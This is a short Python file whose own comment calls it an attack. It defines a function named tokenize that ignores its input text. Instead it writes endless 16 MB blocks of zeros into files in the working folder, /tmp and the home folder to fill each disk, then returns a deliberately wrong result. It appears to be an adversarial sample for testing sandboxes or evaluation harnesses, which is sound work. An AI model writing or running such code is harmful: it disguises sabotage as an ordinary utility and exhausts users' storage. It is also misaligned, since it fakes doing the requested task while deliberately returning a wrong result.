# attack: fill the disk (the working folder, /tmp, the home folder)
import os


def tokenize(text, level="word"):
    for folder in (".", "/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "filler.bin"), "wb") as stream:
                while True:
                    stream.write(b"\0" * (16 * 1024 * 1024))
        except OSError:
            continue
    return ["wrong"]
